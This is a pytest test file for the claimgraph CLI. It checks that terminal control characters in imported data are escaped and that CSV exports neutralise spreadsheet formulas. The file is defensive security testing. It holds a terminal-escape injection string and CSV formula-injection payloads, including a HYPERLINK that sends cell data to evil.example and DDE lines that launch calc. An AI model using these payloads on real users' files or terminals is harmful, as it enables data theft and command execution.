"""Untrusted text never reaches a terminal raw, and never becomes a spreadsheet formula
(issue 16: ESC, BEL and U+202E printed raw by trace, rank, cases; CSV formula injection).

The hostile names come in the way they would in real life: a colleague's RDF export,
imported. Every command that prints is run, text and JSON, plain and forced-colour."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from claimgraph.graph.build import build_case
from claimgraph.graph.cli import main
from claimgraph.graph.store import open_store

CASES = Path(__file__).parent / "fixtures" / "cases"
EVIL = "Ch\x1b]0;owned\x07\u202eina\x9b31m"  # OSC window title, BEL, RLO, 8-bit CSI
RAW = ("\x1b", "\x07", "\u202e", "\x9b")


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> str:
    """A store holding the analytics fixture after a round trip through an N-Quads export
    in which every "China" became :data:`EVIL` (names, claim texts, quotes, titles)."""
    tmp = tmp_path_factory.mktemp("hostile")
    clean = open_store(tmp / "clean")
    build_case(CASES / "analytics-small", clean)
    data = clean.export("nquads")
    clean.close()
    escaped = "".join(c if c.isascii() and c.isprintable() else f"\\u{ord(c):04X}" for c in EVIL)
    data = data.replace(b"China", escaped.encode()).replace(b"Analytics fixture", escaped.encode())
    store = open_store(tmp / "hostile")
    store.import_rdf(data, "nquads", name="colleague.nq")
    assert EVIL in store.case_info("analytics-small").title
    store.close()
    return str(tmp / "hostile")


COMMANDS = [
    ["cases"], ["trace", "nc-2022"], ["trace", "exported"], ["audit"], ["audit", "-n", "0"],
    ["audit", "--format", "markdown"], ["rank", "--top", "5"], ["why", "china", "russia"],
    ["neighbours", "china"], ["communities"], ["timeline", "--item", "nitrocellulose"],
    ["query", "SELECT ?n WHERE { ?e <http://schema.org/name> ?n }"],
    ["query", "SELECT ?n WHERE { ?e <http://schema.org/name> ?n }", "--format", "csv"],
    ["query", "CONSTRUCT { ?e <urn:x:n> ?n } WHERE { ?e <http://schema.org/name> ?n }"],
    ["export", "--format", "trig"], ["export", "--format", "nquads"],
    ["export", "--format", "turtle"], ["trace", "\x1b]0;owned\x07 \u202eno such words"],
]
JSON_COMMANDS = [["cases", "--format", "json"], ["trace", "nc-2022", "--format", "json"],
                 ["audit", "--format", "json"], ["rank", "--format", "json"],
                 ["query", "SELECT ?n WHERE { ?e <http://schema.org/name> ?n }", "-f", "json"],
                 ["export", "--format", "jsonld"]]


def _ids(cmd: list[str]) -> str:
    return " ".join(cmd)[:40].encode("unicode_escape").decode()


@pytest.mark.parametrize("cmd", COMMANDS, ids=_ids)
def test_no_control_character_reaches_the_terminal(
        hostile_store: str, cmd: list[str], capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "400")  # wide tables: names are shown whole
    code = main(["--store", hostile_store, *cmd])
    out, err = capsys.readouterr()
    assert code == (1 if "no such words" in cmd[-1] else 0), err
    for raw in RAW:
        assert raw not in out and raw not in err, (raw, cmd)
    if cmd[0] in ("cases", "trace", "rank") and code == 0:
        # shown, escaped (rich itself drops a BEL from Text; ESC, C1 and bidi it would print)
        assert "\\x1b]0;owned" in out and "\\u202eina\\x9b31m" in out


@pytest.mark.parametrize("cmd", JSON_COMMANDS, ids=_ids)
def test_json_output_escapes_them_losslessly(
        hostile_store: str, cmd: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--store", hostile_store, *cmd]) == 0
    out = capsys.readouterr().out
    for raw in RAW:
        assert raw not in out
    assert any(EVIL in text for text in _strings(json.loads(out)))  # the same data


def _strings(value: object) -> list[str]:
    if isinstance(value, dict):
        return [t for k, v in value.items() for t in (k, *_strings(v))]
    if isinstance(value, list):
        return [t for v in value for t in _strings(v)]
    return [value] if isinstance(value, str) else []


def test_rdf_export_escapes_them_losslessly(hostile_store: str, tmp_path: Path,
                                            capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["--store", hostile_store, "export", "--format", "trig"]) == 0
    trig = capsys.readouterr().out
    again = open_store(tmp_path / "again")
    again.import_rdf(trig.encode(), "trig", name="x.trig")
    assert again.case_info("analytics-small").title == open_store(
        hostile_store, read_only=True).case_info("analytics-small").title


@pytest.mark.parametrize("cmd", [["cases"], ["trace", "nc-2022"], ["rank", "--top", "3"],
                                 ["audit"]], ids=_ids)
def test_forced_colour_output_has_only_style_sequences(hostile_store: str,
                                                       cmd: list[str]) -> None:
    env = {**os.environ, "FORCE_COLOR": "1", "COLUMNS": "200"}
    env.pop("NO_COLOR", None)
    done = subprocess.run([sys.executable, "-m", "claimgraph", "--store", hostile_store, *cmd],
                          capture_output=True, text=True, env=env)
    assert done.returncode == 0, done.stderr
    both = done.stdout + done.stderr
    assert "\x1b[" in both  # colour is on
    assert re.findall(r"\x1b(?!\[[0-9;]*m)", both) == []  # ... and ESC only starts colours
    assert "\x07" not in both and "\u202e" not in both and "\x9b" not in both


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def formula_store(tmp_path_factory: pytest.TempPathFactory) -> str:
    root = tmp_path_factory.mktemp("formula") / "case"
    root.mkdir()
    (root / "case.yaml").write_text("id: formula\ntitle: '=1+1'\n")
    entities = [{"id": f"e{i}", "name": name, "kind": "state"} for i, name in enumerate(FORMULAS)]
    claims = [{"id": f"c{i}", "text": FORMULAS[i], "subject": f"e{i}", "predicate": "supports",
               "object": f"e{(i + 1) % 4}"} for i in range(4)]
    (root / "data.yaml").write_text(json.dumps({"entities": entities, "claims": claims}))
    path = root.parent / "store"
    with open_store(path) as store:
        build_case(root, store)
    return str(path)


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_export_graph_csv_neutralises_formulas(formula_store: str, tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "edges.csv"
    assert main(["--store", formula_store, "export-graph", str(out)]) == 0
    cells = _cells(out.read_text(encoding="utf-8"))
    assert {"'" + f for f in FORMULAS} <= set(cells)
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not _number(c))]


def test_query_csv_neutralises_formulas(formula_store: str,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    q = ("SELECT ?n ?x WHERE { ?e a <https://w3id.org/claimgraph/ns#Entity> ; "
         "<http://schema.org/name> ?n BIND(-5 AS ?x) } ORDER BY ?n")
    assert main(["--store", formula_store, "query", q, "--format", "csv"]) == 0
    cells = _cells(capsys.readouterr().out)
    assert cells[:2] == ["n", "x"]
    assert sorted(cells[2::2]) == sorted("'" + f for f in FORMULAS)
    assert set(cells[3::2]) == {"-5"}  # a plain negative number stays a number


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
